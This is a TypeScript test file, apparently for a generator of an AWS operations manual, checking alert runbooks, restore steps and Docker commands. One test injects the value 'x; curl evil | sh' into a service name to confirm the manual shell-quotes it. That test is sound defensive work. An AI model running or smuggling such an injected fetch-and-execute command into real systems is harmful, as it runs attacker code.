import { CloudwatchMetricAlarm } from "@cdktf/provider-aws/lib/cloudwatch-metric-alarm";
import { judge } from "../../src/controls/judge";
import { operationsManual } from "../../src/documents/operations-manual";
import { restoringTitle } from "../../src/documents";
import { anchor } from "../../src/documents/kit/markdown";
import { Facts, alertsOf } from "../../src/facts";
import { failureWords } from "../../src/model/failure-words";
import { Bucket } from "../../src";
import { recordEnvironment } from "../../src/synthesis/record";
import { staging } from "../platforms/aws/staging";
import { everyConstructOnAws, everyConstructOnDocker } from "./every-construct";
import { below } from "./pipeline-shop";

const project = everyConstructOnAws();
const facts = Facts.of(project.environments[0]);
const manual = operationsManual(project)();

test("every alert has a runbook under its own name, and its message leads there", () => {
  const alerts = alertsOf(facts);
  expect(alerts.length).toBeGreaterThan(60);
  for (const { name, resource, describedBy } of alerts) {
    expect(manual).toContain(`\n### ${name}\n`);
    expect(anchor(name)).toBe(name);
    if (describedBy !== undefined)
      expect(resource!.text(describedBy)).toContain(`symphony-shop/documentation/operations-manual.md#${name}`);
  }
});

test("a runbook names the queue of its alarm, and a start that failed is no dead letter", () => {
  const section = (name: string) => manual.split(`\n### ${name}\n`)[1].split("\n### ")[0];
  expect(section("shop-prod-work-oldest-message")).toContain("--queue-name shop-prod-work ");
  expect(section("shop-prod-work-dead-letters")).toContain("start-message-move-task");
  expect(section("shop-prod-report-not-started")).toContain("ERROR_CODE");
});

test("a subscription to what RDS reports says where to look, by the kind of its sources", () => {
  const section = (name: string) => manual.split(`\n### ${name}\n`)[1].split("\n### ")[0];
  expect(section("shop-prod-db-instance")).toContain("describe-events --source-type db-instance ");
  expect(section("shop-prod-db-parameter-group")).toContain("describe-db-parameters");
});

test("an alarm of one's own without a runbook violates the control; with the address of one it is unknown", () => {
  const { env } = staging();
  new Bucket(env, "receipts");
  const alarm = (id: string, alarmDescription?: string) =>
    new CloudwatchMetricAlarm(env, id, {
      alarmName: id,
      alarmDescription,
      namespace: "Shop",
      metricName: "Orders",
      comparisonOperator: "LessThanThreshold",
      evaluationPeriods: 1,
    });
  alarm("bare");
  alarm("linked", "Too few orders. https://wiki.example.com/orders");
  const { controls } = judge(recordEnvironment(env, "stacks/staging", env.toTerraform()));
  const rows = controls.find(({ control }) => control.id === "SYM-ALERT.2")!.rows;
  const own = rows.filter(({ address }) => /\.(bare|linked)$/.test(address));
  expect(own.map(({ address, found, verdict }) => [address, found, verdict])).toEqual([
    ["aws_cloudwatch_metric_alarm.bare", "none for Shop Orders", "violated"],
    ["aws_cloudwatch_metric_alarm.linked", "https://wiki.example.com/orders", "unknown"],
  ]);
});

test("an environment without alerts says so", () => {
  const silent = { ...project.environments[0]!, monitoring: undefined, terraform: {} };
  expect(operationsManual({ ...project, environments: [silent] })()).toContain(
    "Nothing of this environment raises an alert.",
  );
});

const partOf = (document: string, title: string) => document.split(`\n### ${title}\n`)[1]!.split(/\n##/)[0]!;

test("a construct's part has its log, what is done with it, and its alerts", () => {
  const api = partOf(manual, "Service api of prod");
  for (const command of [
    "aws logs tail /shop/prod/services/api ",
    "aws ecs update-service --cluster shop-prod --service shop-prod-api --force-new-deployment",
    "--resource-id service/shop-prod/shop-prod-api --min-capacity 3 --max-capacity 12",
  ])
    expect(api).toContain(command);
  expect(api).toContain("ECS Exec is off");
  expect(api).toContain("(#shop-prod-api-cpu)");
  expect(partOf(manual, "Secret stripe-key of prod")).toContain("symphony secret set prod stripe-key");
  expect(partOf(manual, "Queue work of prod")).toContain("start-message-move-task");
});

test("no command holds the value of a secret or a value that only a deploy shows", () => {
  const commands = [...manual.matchAll(/```shell\n([^]*?)\n```/g)].flatMap(([, block]) => block!.split("\n"));
  expect(commands.length).toBeGreaterThan(100);
  expect(
    commands.filter((command) =>
      /undefined|\$\{(?:aws_|data\.|var\.)|--secret-string (?!file:)|--password /.test(command),
    ),
  ).toEqual([]);
});

test("a name that an override wrote is one word of the shell", () => {
  const hostile = "x; curl evil | sh";
  const terraform = structuredClone(project.environments[0]!.terraform) as Record<string, any>;
  terraform.resource.aws_ecs_service.api.name = hostile;
  const [block] = [{ ...project.environments[0]!, terraform }];
  const api = partOf(operationsManual({ ...project, environments: [block!] })(), "Service api of prod");
  expect(api).toContain(`--service '${hostile}' --force-new-deployment`);
});

test("troubleshooting follows the uses, the nearest first, over queues to those who work on them", () => {
  const section = partOf(manual, "When api of prod fails");
  const order = [...section.matchAll(/^\| \d+ \| \[(.+?)\]/gm)].map(([, name]) => name);
  expect(order[0]).toBe("Service api");
  expect(order).toContain("Worker worker");
  expect(order.indexOf("Database orders")).toBeLessThan(order.indexOf("Worker worker"));
  expect(section).toContain("(#shop-prod-answers-availability-page)");
});

test("a database is restored with what the Terraform gives it, and Terraform takes it over", () => {
  const section = partOf(manual, "Restoring the database orders of prod");
  const { attributes } = facts.tryFind("aws_db_instance.orders")!;
  expect(section).toContain(`--db-instance-class ${String(attributes.instance_class)} --multi-az`);
  expect(section).toContain(
    "terraform -chdir=infrastructure/terraform/stacks/prod import aws_db_instance.orders shop-prod-orders",
  );
  expect(section).toContain("--backup-vault-name shop-prod-recovery-copy --region eu-central-1");
});

test("on Docker the commands are those of the engine", () => {
  const docker = operationsManual(everyConstructOnDocker())();
  expect(partOf(docker, "Service api of dev")).toContain("docker restart shop-dev-api");
  expect(partOf(docker, "Restoring the database orders of dev")).toContain(
    "--volume shop-dev-orders-data-postgres-17:/data",
  );
  expect(docker).not.toMatch(/^aws (?!--endpoint)/m);
});

test("what to do when a deployment failed is there for every class, with the commands of each environment", () => {
  const failed = manual.split("\n## When a deployment failed\n")[1]!.split("\n## ")[0]!;
  for (const name of Object.keys(failureWords)) expect(failed).toContain(`\n| \`${name}\` | `);
  expect(failed).toContain(
    "`npx symphony history prod --limit 5` | `npx symphony verify prod` | `npx symphony rollback prod` |",
  );
});

test("the commands of an environment as a whole stand first", () => {
  const operations = manual.split("\n## Operations of prod\n")[1]!.split("\n### ")[0]!;
  for (const command of [
    "status prod",
    "history prod --limit 10",
    "verify prod",
    "show usage prod",
    "runbook --environment prod",
  ])
    expect(operations).toContain(`| \`npx symphony ${command}\` |`);
});

test("how long a restore takes is rehearsed, in production elsewhere, and stated where people tried it", () => {
  const recovery = (document: string, name: string) =>
    document.split(`\n## Disaster recovery of ${name}\n`)[1]!.split("\n## ")[0]!;
  expect(recovery(operationsManual(everyConstructOnDocker())(), "dev")).toContain("\nnpx symphony rehearse dev\n");
  expect(recovery(manual, "prod")).not.toContain("symphony rehearse");
  expect(recovery(manual, "prod")).toContain("\nnpx symphony readiness prod --confirm restore:orders --because ");
});

test("what lives in the emulator's memory is not said to come back: nothing is stopped for it, and nothing stated", () => {
  const docker = operationsManual(everyConstructOnDocker())();
  const restoring = (kind: string, name: string) => below(docker, `### ${restoringTitle({ kind, name }, "dev")}`);
  expect(restoring("Bucket", "receipts").trim()).toBe(
    "It is in the memory of a container, and empty after each start. Nothing brings it back; a deployment makes it anew.",
  );
  const orders = restoring("Database", "orders");
  expect(orders).toContain("docker stop shop-dev-orders\n");
  // readiness asks for no proof in development, and refuses the statement
  expect(orders).not.toContain("--confirm");
  const whole = below(docker, "### Restoring dev as a whole");
  expect(whole).toContain("Where it must be another Docker host");
  expect(whole).not.toMatch(/region or account|former versions/);
});

/** What only the message of an alert, or whoever reads it, can say. */
const LEFT_OPEN =
  /^(address|arn of the recovery point|bucket|GiB|id of the request|key|key of a new object|more copies|record|resource|table|task of the message|user|user or session of the call|version|when, by whom, and how long it took|such as .*)$/;

test("names that the Terraform holds stand in the steps, and only what nobody can know before is left open", () => {
  const open = [...manual.matchAll(/(?:&lt;|<)([a-zA-Z][^<>&\n]{1,40}?)(?:>|&gt;)/g)].map(([, name]) => name!);
  expect(open.length).toBeGreaterThan(10);
  expect([...new Set(open)].filter((name) => !LEFT_OPEN.test(name))).toEqual([]);
});

test("a step that ends with a command has it as code, with the names of its own alert", () => {
  const section = (name: string) => manual.split(`\n### ${name}\n`)[1]!.split("\n### ")[0]!;
  expect(section("shop-prod-work-dead-letters")).toMatch(
    /Move the messages back: `aws sqs start-message-move-task --source-arn ".*--queue-name shop-prod-work-dead-letters .*"`\n/,
  );
  expect(section("shop-prod-api-memory")).toContain(
    "`aws ecs update-service --cluster shop-prod --service shop-prod-api --force-new-deployment`\n",
  );
  expect(section("shop-prod-orders-storage")).toContain(
    "--db-instance-identifier shop-prod-orders --allocated-storage <GiB>",
  );
  expect(section("shop-prod-orders-rotation-failed")).toContain(
    "`aws rds modify-db-instance --db-instance-identifier shop-prod-orders --rotate-master-user-password --apply-immediately`",
  );
  expect(section("shop-prod-report-not-started")).toContain("the schedule starts the next one");
});
